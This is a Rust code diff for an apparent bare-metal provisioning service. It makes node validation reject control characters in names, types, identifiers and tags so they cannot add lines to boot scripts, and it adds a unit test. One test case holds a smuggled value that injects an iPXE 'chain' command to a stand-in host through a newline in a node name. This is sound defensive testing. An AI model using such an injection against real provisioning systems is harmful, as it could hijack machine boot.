@@ -122,8 +122,8 @@ impl Node {
         self.obms.first()
     }
 
-    /// The rules every stored node keeps, whichever API wrote it: a name, and OBMs that
-    /// name a service and whose `systemId` is an id or a path, never a URL (credentials
+    /// The rules every stored node keeps, whichever API wrote it: a name; no control
+    /// characters in the name, type, identifiers or tags; and OBMs that name a service and whose `systemId` is an id or a path, never a URL (credentials
     /// only ever go to the BMC they were given for).
     pub fn check(&self) -> Result<(), Error> {
         if !self.id.is_empty()
@@ -134,10 +134,36 @@ impl Node {
         if self.name.trim().is_empty() {
             return Err(Error::Invalid("field 'name' is required".into()));
         }
-        if self.name.len() > 256 || self.name.chars().any(char::is_control) {
+        if self.name.len() > 256 {
             return Err(Error::Invalid(
-                "field 'name' must be at most 256 bytes without control characters".into(),
+                "field 'name' must be at most 256 bytes".into(),
             ));
+        }
+        // Names, types, identifiers and tags end up in boot scripts and kickstarts: a line
+        // break in one would add lines there. Printing escapes them anyway; refusing them
+        // here keeps them out of logs and listings too.
+        let fields = [("name", &self.name), ("type", &self.node_type)]
+            .into_iter()
+            .map(|(f, v)| (f.to_owned(), v))
+            .chain(
+                self.identifiers
+                    .iter()
+                    .enumerate()
+                    .map(|(i, v)| (format!("identifiers[{i}]"), v)),
+            )
+            .chain(
+                self.tags
+                    .iter()
+                    .enumerate()
+                    .map(|(i, v)| (format!("tags[{i}]"), v)),
+            );
+        for (field, value) in fields {
+            if let Some(c) = value.chars().find(|c| c.is_control()) {
+                return Err(Error::Invalid(format!(
+                    "field '{field}' must not contain control characters (found U+{:04X})",
+                    u32::from(c)
+                )));
+            }
         }
         for (i, obm) in self.obms.iter().enumerate() {
             if obm.service.trim().is_empty() {
@@ -582,5 +608,44 @@ impl Nodes {
     pub async fn active_workflow(&self, id: &str) -> Result<Option<String>, crate::Error> {
         let (n, id) = (self.clone(), id.to_owned());
         blocking(move || n.active_workflow_blocking(&id).map_err(crate::Error::from)).await
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn node(name: &str) -> Node {
+        Node {
+            id: String::new(),
+            name: name.to_owned(),
+            identifiers: vec!["52:54:00:00:00:01".to_owned()],
+            node_type: "compute".to_owned(),
+            tags: vec!["rack=1".to_owned()],
+            obms: Vec::new(),
+            created_at: String::new(),
+            updated_at: String::new(),
+        }
+    }
+
+    #[test]
+    fn control_characters_are_refused_naming_the_field() {
+        assert!(node("rack1-u08 (spare)").check().is_ok());
+        type Spoil = fn(&mut Node);
+        let cases: [(Spoil, &str); 4] = [
+            (
+                |n| n.name = "evil\nchain http://127.0.0.1:1/pwn.ipxe".into(),
+                "'name'",
+            ),
+            (|n| n.node_type = "compute\r".into(), "'type'"),
+            (|n| n.identifiers.push("x\0".into()), "'identifiers[1]'"),
+            (|n| n.tags.push("boot-profile=a\tb".into()), "'tags[1]'"),
+        ];
+        for (spoil, field) in cases {
+            let mut n = node("ok");
+            spoil(&mut n);
+            let err = n.check().expect_err(field).to_string();
+            assert!(err.contains(field) && err.contains("control"), "{err}");
+        }
     }
 }
